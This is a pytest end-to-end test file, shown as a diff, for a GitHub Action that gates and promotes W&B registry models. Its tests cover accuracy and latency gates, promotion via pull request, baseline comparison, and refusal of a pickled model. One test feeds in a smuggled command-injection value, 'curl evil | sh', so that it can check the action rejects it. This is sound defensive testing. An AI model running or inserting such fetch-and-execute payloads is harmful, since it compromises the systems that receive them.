@@ -1,0 +1,338 @@
+"""model-gate and promote end to end: entrypoint.py as a subprocess, as the runner starts it for a
+``repository_dispatch`` sent by a W&B automation, against the fake W&B (the real ``wandb`` SDK over
+HTTP on loopback) and the fake GitHub. Models are real CNNs trained on generated images; accuracy
+figures are checked against a plain torch computation on the same eval data."""
+
+from __future__ import annotations
+
+import io
+import json
+import os
+import subprocess
+import sys
+import warnings
+from collections.abc import Callable, Mapping
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import jsonschema
+import pytest
+import torch
+
+from tests.fakes.github_server import FakeGitHub
+from tests.fakes.wandb_server import FakeWandb
+from tests.fixtures.model_zoo import SmallCNN
+from tests.fixtures.models import make_images, trained_cnn
+from tests.unit.test_workflow import parse_outputs
+
+pytestmark = pytest.mark.slow  # each run imports torch and wandb in a fresh process (~5 s)
+
+ROOT = Path(__file__).resolve().parents[2]
+EVENTS = ROOT / "tests" / "fixtures" / "events"
+SCHEMA = json.loads((ROOT / "schemas" / "model-gate-report.schema.json").read_text())
+ENTITY, TRAIN_PROJECT, SEQUENCE = "acme", "mnist-train", "mnist-cnn"
+REGISTRY = "wandb-registry-model/mnist"
+MANIFEST = ".mlgate/promotions/mnist.json"
+EVAL_SAMPLES, EVAL_SEED = 500, 7
+FAST = {"predictions": "20", "batch-sizes": "1", "host-figures": "false"}
+
+
+def torchscript_bytes(model: SmallCNN) -> bytes:
+    buffer = io.BytesIO()
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", FutureWarning)  # torch.jit is deprecated; its files still exist
+        torch.jit.save(torch.jit.trace(model, torch.zeros(1, 1, 28, 28)), buffer)
+    return buffer.getvalue()
+
+
+def reference_accuracy(model: SmallCNN) -> float:
+    """Independent of mlgate: the eval images as the test writes them, through the model, argmax."""
+    images, labels = make_images(EVAL_SAMPLES, seed=EVAL_SEED)
+    with torch.no_grad():
+        predicted = model(images.float().div(255).unsqueeze(1)).argmax(1)
+    return float((predicted == labels).double().mean())
+
+
+@dataclass(frozen=True)
+class Models:
+    good: SmallCNN  # 100 % on the eval data
+    weak: SmallCNN  # about 40 %
+    files: dict[int, dict[str, bytes]]  # id(model) -> the artifact's files (a TorchScript model.pt)
+
+    def file(self, model: SmallCNN) -> dict[str, bytes]:
+        return self.files[id(model)]
+
+
+@pytest.fixture(scope="module")
+def models() -> Models:
+    good, weak = trained_cnn(), trained_cnn(seed=2, samples=160, epochs=1)
+    return Models(good, weak, {id(m): {"model.pt": torchscript_bytes(m)} for m in (good, weak)})
+
+
+@pytest.fixture
+def workspace(tmp_path: Path) -> Path:
+    """The checkout: eval data in the course layout under data/processed."""
+    data = tmp_path / "ws" / "data" / "processed"
+    data.mkdir(parents=True)
+    images, labels = make_images(EVAL_SAMPLES, seed=EVAL_SEED)
+    torch.save(images, data / "test_images.pt")
+    torch.save(labels, data / "test_target.pt")
+    return tmp_path / "ws"
+
+
+@dataclass(frozen=True)
+class Staged:
+    source: str  # "acme/mnist-train/mnist-cnn:vN": what the training job logged
+    registry_version: str  # "wandb-registry-model/mnist:vM": its membership in the registry
+
+
+def staged(fake: FakeWandb, files: dict[str, bytes]) -> Staged:
+    """Log a version and give it `staging` in the registry, as the training job does."""
+    source = fake.add_model(ENTITY, TRAIN_PROJECT, SEQUENCE, files)
+    return Staged(source, fake.link(source, REGISTRY, ["staging"]))
+
+
+def dispatch_event(version: Staged, **payload: str) -> dict[str, Any]:
+    """GitHub's repository_dispatch example with the W&B automation's client_payload filled in."""
+    event = json.loads((EVENTS / "repository_dispatch.json").read_text())
+    event["action"] = "staged_model"
+    event["client_payload"] = {
+        "artifact_version_string": f"{ENTITY}/{version.registry_version}",
+        "artifact_collection_name": "mnist",
+        "entity_name": ENTITY,
+        "project_name": "wandb-registry-model",
+        "alias": "staging",
+        "event_type": "ADD_ARTIFACT_ALIAS",
+        **payload,
+    }
+    return event
+
+
+def push_event(*added: str) -> dict[str, Any]:
+    event = json.loads((EVENTS / "push.json").read_text())
+    event["ref"] = "refs/heads/main"
+    event["commits"][0]["added"] = list(added)
+    event["head_commit"]["added"] = list(added)
+    return event
+
+
+@dataclass
+class Run:
+    returncode: int
+    stdout: str
+    stderr: str
+    outputs: dict[str, str]
+    summary: str
+    workspace: Path
+
+    def report(self) -> dict[str, Any]:
+        report = json.loads((self.workspace / self.outputs["report-json"]).read_text())
+        jsonschema.validate(report, SCHEMA)
+        return dict(report)
+
+    def gates(self) -> dict[str, dict[str, Any]]:
+        return {gate["name"]: gate for gate in self.report()["gates"]}
+
+
+RunAction = Callable[..., Run]
+
+
+@pytest.fixture
+def run_action(tmp_path: Path, fake_wandb: FakeWandb, fake_github: FakeGitHub) -> RunAction:
+    """Start entrypoint.py as the runner starts the container: INPUT_* and GITHUB_* variables."""
+    counter = iter(range(100))
+
+    def start(workspace: Path, event_name: str, event: Mapping[str, Any], mode: str = "model-gate",
+              **inputs: str) -> Run:
+        files = tmp_path / f"run{next(counter)}"
+        files.mkdir()
+        (files / "event.json").write_text(json.dumps(event))
+        env = {
+            "PATH": os.environ["PATH"],
+            "HOME": str(files),
+            # the fake_wandb fixture's cache dirs and fast-failing retry settings; no WANDB_API_KEY,
+            # so the key reaches the SDK only through the `wandb-api-key` input, as in a workflow
+            **{k: v for k, v in os.environ.items() if k.startswith("WANDB_") and k != "WANDB_API_KEY"},
+            **fake_github.env(),
+            "GITHUB_ACTIONS": "true",
+            "GITHUB_EVENT_NAME": event_name,
+            "GITHUB_EVENT_PATH": str(files / "event.json"),
+            "GITHUB_WORKSPACE": str(workspace),
+            "GITHUB_SHA": fake_github.repo.branch_sha("main") or "",
+            "GITHUB_OUTPUT": str(files / "output"),
+            "GITHUB_STEP_SUMMARY": str(files / "summary"),
+            "INPUT_MODE": mode,
+            "INPUT_GITHUB-TOKEN": fake_github.token,
+            "INPUT_WANDB-API-KEY": fake_wandb.api_key,
+            # the runner passes every declared input, empty when the workflow leaves it out
+            "INPUT_MODEL": "",
+            "INPUT_REGISTRY": "",
+            "INPUT_TITLE": "",
+        }
+        if mode == "model-gate":
+            env["INPUT_EVAL-DATA"] = "data/processed"
+            env.update({f"INPUT_{name.upper()}": value for name, value in FAST.items()})
+        env.update({f"INPUT_{name.upper().replace('_', '-')}": value for name, value in inputs.items()})
+        done = subprocess.run([sys.executable, str(ROOT / "entrypoint.py")], cwd=workspace, env=env,
+                              capture_output=True, text=True, timeout=300, check=False)
+        output, summary = files / "output", files / "summary"
+        return Run(done.returncode, done.stdout, done.stderr,
+                   parse_outputs(output.read_text()) if output.exists() else {},
+                   summary.read_text() if summary.exists() else "", workspace)
+
+    return start
+
+
+def test_pass_with_on_pass_promote__links_production_once_and_rerun_does_nothing(
+    fake_wandb: FakeWandb, models: Models, workspace: Path, run_action: RunAction
+) -> None:
+    staging = staged(fake_wandb, models.file(models.good))
+    candidate = staging.source
+    event = dispatch_event(staging)
+
+    first = run_action(workspace, "repository_dispatch", event, on_pass="promote", min_accuracy="0.95")
+    assert first.returncode == 0, first.stdout + first.stderr
+    assert fake_wandb.alias_map(REGISTRY)["production"] == candidate
+    assert len(fake_wandb.link_operations) == 1
+    assert fake_wandb.link_operations[0].aliases == ("production",)
+    report = first.report()
+    assert report["passed"] is True
+    assert report["model"] == candidate  # the pinned source version, not the moving `staging`
+    assert report["collection"] == REGISTRY
+    assert report["accuracy"] == pytest.approx(reference_accuracy(models.good), abs=1e-9)
+    assert report["baseline"] is None
+    assert first.outputs["passed"] == "true"
+    assert first.outputs["model"] == candidate
+    assert float(first.outputs["accuracy"]) == pytest.approx(report["accuracy"], abs=1e-6)
+    assert float(first.outputs["latency-p95-ms"]) == pytest.approx(report["latency_ms"]["p95"], abs=1e-4)
+    assert "promoted:" in first.summary and "## ✅ Model gate" in first.summary
+
+    second = run_action(workspace, "repository_dispatch", event, on_pass="promote", min_accuracy="0.95")
+    assert second.returncode == 0, second.stdout + second.stderr
+    assert len(fake_wandb.link_operations) == 1
+    assert "already holds `production`" in second.summary
+    assert second.report()["baseline"] is None  # production is the candidate itself: nothing to compare
+
+
+def test_failed_gate__links_nothing_tags_the_candidate_fails_the_step_and_still_reports(
+    fake_wandb: FakeWandb, models: Models, workspace: Path, run_action: RunAction
+) -> None:
+    staging = staged(fake_wandb, models.file(models.good))
+    result = run_action(workspace, "repository_dispatch", dispatch_event(staging), on_pass="promote",
+                        max_latency_ms="0.000001", min_accuracy="0.9", on_fail_alias="gate-failed")
+    assert result.returncode == 1, result.stdout + result.stderr
+    aliases = fake_wandb.alias_map(REGISTRY)
+    assert "production" not in aliases
+    assert aliases["gate-failed"] == aliases["staging"] == staging.source  # tagged where it was staged
+    assert fake_wandb.link_operations == []
+    gates = result.gates()
+    assert gates["latency_p95_ms"]["passed"] is False
+    assert gates["latency_p95_ms"]["detail"] == f"{gates['latency_p95_ms']['value'] - 0.000001:.3g} ms over"
+    assert gates["accuracy"]["passed"] is True
+    assert result.outputs["passed"] == "false"
+    assert result.outputs["model"] == staging.source
+    assert "## ❌ Model gate" in result.summary and "`latency_p95_ms`" in result.summary
+    assert "not promoted" in result.summary and "Added alias `gate-failed`" in result.summary
+
+
+def test_on_pass_pull_request__one_pr_with_pinned_manifest_then_promote_after_merge_links_it(
+    fake_wandb: FakeWandb, fake_github: FakeGitHub, models: Models, workspace: Path, run_action: RunAction,
+    tmp_path: Path,
+) -> None:
+    staging = staged(fake_wandb, models.file(models.good))
+    candidate = staging.source
+    event = dispatch_event(staging)
+
+    first = run_action(workspace, "repository_dispatch", event, on_pass="pull-request", min_accuracy="0.9")
+    assert first.returncode == 0, first.stdout + first.stderr
+    second = run_action(workspace, "repository_dispatch", event, on_pass="pull-request", min_accuracy="0.9")
+    assert second.returncode == 0, second.stdout + second.stderr
+
+    repo = fake_github.repo
+    [pull] = [p for p in repo.pulls.values() if p.state == "open"]
+    assert pull.head_ref == "mlgate/promote-mnist" and pull.base_ref == "main"
+    assert first.outputs["pull-request-url"] == second.outputs["pull-request-url"] != ""
+    assert first.outputs["pull-request-url"].endswith(f"/pull/{pull.number}")
+    assert "Promote" in pull.title and candidate in pull.title
+    assert "Merging this pull request links" in (pull.body or "")
+    manifest = json.loads(repo.files(pull.head_ref)[MANIFEST])
+    assert manifest["artifact"] == candidate and manifest["artifact"].endswith(":v0")
+    assert manifest["version"] == "v0"
+    assert manifest["collection"] == REGISTRY and manifest["alias"] == "production"
+    assert manifest["passed"] is True
+    assert manifest["metrics"]["accuracy"] == pytest.approx(reference_accuracy(models.good), abs=1e-9)
+    assert [g["name"] for g in manifest["gates"]] == ["accuracy"]
+    assert fake_wandb.link_operations == []  # nothing is promoted before a human merges
+    assert fake_github.violations == []
+
+    # the merge: main now holds the manifest, and the push workflow runs `mode: promote`
+    merged = tmp_path / "merged"
+    (merged / MANIFEST).parent.mkdir(parents=True)
+    (merged / MANIFEST).write_bytes(repo.files(pull.head_ref)[MANIFEST])
+    promoted = run_action(merged, "push", push_event("README.md", MANIFEST), mode="promote")
+    assert promoted.returncode == 0, promoted.stdout + promoted.stderr
+    assert fake_wandb.alias_map(REGISTRY)["production"] == candidate
+    assert len(fake_wandb.link_operations) == 1
+    assert promoted.outputs["model"] == candidate
+    assert f"`{candidate}` now holds `production`" in promoted.summary
+
+
+def test_production_baseline__ratios_and_relative_gates_against_the_production_version(
+    fake_wandb: FakeWandb, models: Models, workspace: Path, run_action: RunAction
+) -> None:
+    production = fake_wandb.add_model(ENTITY, TRAIN_PROJECT, SEQUENCE, models.file(models.good))
+    fake_wandb.link(production, REGISTRY, ["production"])
+    staging = staged(fake_wandb, models.file(models.weak))
+    candidate = staging.source
+
+    result = run_action(workspace, "repository_dispatch", dispatch_event(staging), on_pass="promote",
+                        max_accuracy_drop="0.01", max_latency_regression="100")
+    assert result.returncode == 1, result.stdout + result.stderr
+    report = result.report()
+    assert report["model"] == candidate
+    baseline = report["baseline"]
+    assert baseline["model"] == production and baseline["alias"] == "production"
+    weak, good = reference_accuracy(models.weak), reference_accuracy(models.good)
+    assert baseline["accuracy"] == pytest.approx(good, abs=1e-9)
+    assert baseline["ratios"]["accuracy"] == pytest.approx(weak / good, rel=1e-9)
+    assert baseline["ratios"]["latency_p95"] == pytest.approx(
+        report["latency_ms"]["p95"] / baseline["latency_ms"]["p95"], rel=1e-9)
+    assert baseline["ratios"]["params"] == 1.0
+    gates = result.gates()
+    assert gates["accuracy_drop"]["passed"] is False
+    assert gates["accuracy_drop"]["value"] == pytest.approx(good - weak, abs=1e-9)
+    assert f"{(good - weak - 0.01) * 100:.2f} percentage points beyond the allowed" in gates["accuracy_drop"]["detail"]
+    assert gates["latency_regression"]["passed"] is True
+    assert fake_wandb.alias_map(REGISTRY)["production"] == production  # untouched
+    assert fake_wandb.link_operations == []
+    assert f"production (`{production}`)" in result.summary
+
+
+def test_malformed_payload__exits_2_with_the_expected_payload_in_the_error(
+    fake_wandb: FakeWandb, workspace: Path, run_action: RunAction
+) -> None:
+    event = json.loads((EVENTS / "repository_dispatch.json").read_text())
+    event["action"] = "staged_model"
+    event["client_payload"] = {"artifact_version_string": "acme/proj/model:v1; curl evil | sh"}
+    result = run_action(workspace, "repository_dispatch", event, on_pass="promote")
+    assert result.returncode == 2
+    [error] = [line for line in result.stdout.splitlines() if line.startswith("::error")]
+    assert "client_payload.artifact_version_string" in error
+    assert '"artifact_version_string": "${artifact_version_string}"' in error
+    assert "${artifact_collection_name}" in result.summary
+    assert fake_wandb.operations == []  # refused before W&B was asked anything
+
+
+def test_pickled_model__refused_with_a_pointer_to_trust_pickle(
+    fake_wandb: FakeWandb, models: Models, workspace: Path, run_action: RunAction
+) -> None:
+    pickled = io.BytesIO()
+    torch.save(models.good, pickled)
+    staging = staged(fake_wandb, {"model.pt": pickled.getvalue()})
+    result = run_action(workspace, "repository_dispatch", dispatch_event(staging), on_pass="promote")
+    assert result.returncode == 2
+    [error] = [line for line in result.stdout.splitlines() if line.startswith("::error")]
+    assert "Refused to unpickle" in error and staging.source in error
+    assert "trust-pickle: true" in result.stderr and "trust-pickle: true" in result.summary
+    assert fake_wandb.link_operations == []
